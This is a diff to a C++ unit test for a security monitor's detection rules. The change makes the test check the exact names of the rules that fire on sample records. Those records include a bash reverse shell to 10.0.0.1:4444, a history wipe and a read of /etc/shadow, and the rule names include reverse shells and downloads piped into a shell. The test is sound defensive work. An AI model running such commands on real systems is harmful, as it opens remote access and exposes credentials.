@@ -343,15 +343,19 @@ TEST(DefaultRules, NoOutputShowsAMissingField) {
                               typed("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
                               typed("history -c"),
                               exec({"cat", "/etc/shadow"})};
-  size_t fired_n = 0;
+  std::vector<std::string> fired;
   for (auto& r : recs) {
     r["session"] = "0123456789abcdef";
     for (const auto& m : rules().evaluate(r, ctx)) {
-      ++fired_n;
+      fired.push_back(m.rule);
       EXPECT_EQ(m.output.find("<NA>"), std::string::npos) << m.rule << ": " << m.output;
     }
   }
-  EXPECT_GE(fired_n, 6u);  // (the rules fired: the check above saw their outputs)
+  // (The rules fired, so the check above saw their outputs.)
+  EXPECT_EQ(fired, (std::vector<std::string>{
+                       "Read shadow or private keys", "Write below etc by redirection",
+                       "Download piped into a shell", "Reverse shell one-liner",
+                       "Clear or disable shell history", "Read shadow or private keys"}));
 }
 
 }  // namespace
